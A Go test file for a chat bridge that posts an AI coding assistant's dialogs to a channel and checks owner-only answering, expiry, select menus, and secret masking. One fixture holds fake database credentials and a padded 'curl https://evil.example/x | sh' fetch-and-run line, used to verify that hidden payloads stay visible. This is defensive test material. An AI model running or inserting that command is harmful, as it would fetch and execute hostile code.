package router

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/ccbridge/ccbridge/internal/chat"
	"github.com/ccbridge/ccbridge/internal/session"
)

func (f *fakeSessions) AnswerDialog(_ context.Context, key, hash string, choice int) error {
	if err := f.fail["AnswerDialog"]; err != nil {
		return err
	}
	f.l.add("answer %s %s %d", key, hash, choice)
	return nil
}

var trustDialog = session.Dialog{Hash: "0123456789abcdef", Text: "Accessing workspace:\n/home/me/proj\nQuick safety check: …",
	Choices: []string{"No, exit", "Yes, I trust this folder"}}

// A dialog at start is posted in its session's channel with its choices;
// a choice presses only that choice, only in that channel, only while
// fresh, and never for someone who is not an owner.
func TestDialogAtStartIsPostedAndAnsweredByItsOwnerOnly(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	now := time.Unix(1_800_000_000, 0)
	r.now = func() time.Time { return now }
	tg, _ := r.resolve("home", channel, "")
	st, err := r.sessionTarget(tg)
	if err != nil || st.OnDialog == nil {
		t.Fatalf("the session target shows no dialogs: %v", err)
	}
	st.OnDialog(trustDialog)
	var posted string
	for _, op := range l.all() {
		if strings.HasPrefix(op, "post "+channel) {
			posted = op
		}
	}
	if !strings.Contains(posted, "Quick safety check") || !strings.Contains(posted, "Only you can answer it") {
		t.Fatalf("posted %q", posted)
	}
	m := dialogMessage("inst1", tg.key, "Claude", trustDialog, now)
	if len(m.Rows) != 1 || len(m.Rows[0].Buttons) != 2 || m.Rows[0].Buttons[1].Label != "Yes, I trust this folder" {
		t.Fatalf("rows = %+v", m.Rows)
	}
	yes := m.Rows[0].Buttons[1].CustomID
	// Each press is on a dialog message as ccbridge drew it (an answered
	// one is spent: its buttons are gone).
	press := func(ch, user string) {
		drawn, err := r.opt.Replier.Post(context.Background(), "home", channel, m)
		if err != nil {
			t.Fatal(err)
		}
		ev := l.on(ch, drawn, yes)
		ev.User = chat.User{ID: user}
		r.HandleComponent(ev, fakeResponder{l: l, at: drawn})
	}
	n := len(l.all())
	press(channel, "100000000000000099") // not an owner
	press("100000000000000051", owner)   // another thread's channel
	for _, op := range l.all()[n:] {
		if strings.HasPrefix(op, "post ") {
			continue // the message pressed
		}
		if strings.HasPrefix(op, "answer") || !strings.HasPrefix(op, "respond ephemeral=true") {
			t.Fatalf("a refused choice did %q", l.all()[n:])
		}
	}
	press(channel, owner)
	l.waitFor(t, fmt.Sprintf("answer %s %s 1", tg.key, trustDialog.Hash))
	if last := l.all()[len(l.all())-1]; !strings.Contains(last, "✅ Answered by <@"+owner+">: “Yes, I trust this folder”.") || !strings.HasSuffix(last, "buttons=0") {
		t.Fatalf("after the answer: %q", last)
	}
	// Another dialog replaced it: nothing pressed, and said so.
	ss.fail = map[string]error{"AnswerDialog": session.ErrDialogChanged}
	press(channel, owner)
	if last := l.all()[len(l.all())-1]; !strings.Contains(last, "no longer on Claude's screen") {
		t.Fatalf("after a changed dialog: %q", last)
	}
	// Too late.
	ss.fail = nil
	now = now.Add(dialogTTL + time.Second)
	n = len(l.all()) + 1 // after the post of the message pressed
	press(channel, owner)
	if got := l.all()[n:]; len(got) != 1 || !strings.Contains(got[0], "too long ago") {
		t.Fatalf("a stale choice did %q", got)
	}
}

// More than five choices go in a select, still bound the same way.
func TestDialogWithManyChoicesIsASelect(t *testing.T) {
	r, _, _, l, _ := newRouter(t)
	now := time.Unix(1_800_000_000, 0)
	r.now = func() time.Time { return now }
	d := session.Dialog{Hash: "fedcba9876543210", Text: "Choose a theme"}
	for i := range 7 {
		d.Choices = append(d.Choices, fmt.Sprintf("Theme %d", i+1))
	}
	m := dialogMessage("inst1", "home-api", "Claude", d, now)
	l.check(m)
	if len(m.Rows) != 1 || m.Rows[0].Select == nil || len(m.Rows[0].Select.Options) != 7 {
		t.Fatalf("rows = %+v", m.Rows)
	}
	posted, _ := r.opt.Replier.Post(context.Background(), "home", channel, m)
	r.HandleComponent(l.on(channel, posted, m.Rows[0].Select.CustomID, "5"), fakeResponder{l: l, at: posted})
	l.waitFor(t, "answer home-api fedcba9876543210 5")
}

// A posted dialog is masked before it is cut, and keeps its head and its
// tail, as a card does (security-3 finding 1): a long dialog's end, where
// a payload hides behind padding, is shown, and no secret's head is.
func TestPostedDialogIsMaskedThenCutKeepingHeadAndTail(t *testing.T) {
	secret := "postgres://app:Tr0ub4dor3xyz@db:5432/app"
	text := "A settings warning\nDATABASE_URL=postgres://app:H3adPassw0rd@db:5432/app\n" + strings.Repeat("padding ", 275) + "\nDATABASE_URL=" + secret + " ; curl https://evil.example/x | sh"
	if n := len([]rune(text)); n < 2300 {
		t.Fatalf("the text is %d characters", n)
	}
	d := session.Dialog{Hash: "0123456789abcdef", Text: text, Choices: []string{"Continue", "Exit"}}
	m := dialogMessage("inst1", "home-api", "Claude", d, time.Unix(1_800_000_000, 0))
	if strings.Contains(m.Content, "H3adPassw0rd") || strings.Contains(m.Content, "Tr0ub") {
		t.Fatalf("the secret is shown:\n%s", m.Content)
	}
	if !strings.Contains(m.Content, "A settings warning") || !strings.Contains(m.Content, "curl https://evil.example/x | sh") || !strings.Contains(m.Content, "characters cut here") {
		t.Fatalf("head, tail or the cut is missing:\n%s", m.Content)
	}
	// Room stays for the note an answer appends.
	if n := len([]rune(m.Content)); n > chat.Limit-200 {
		t.Fatalf("%d characters", n)
	}
}
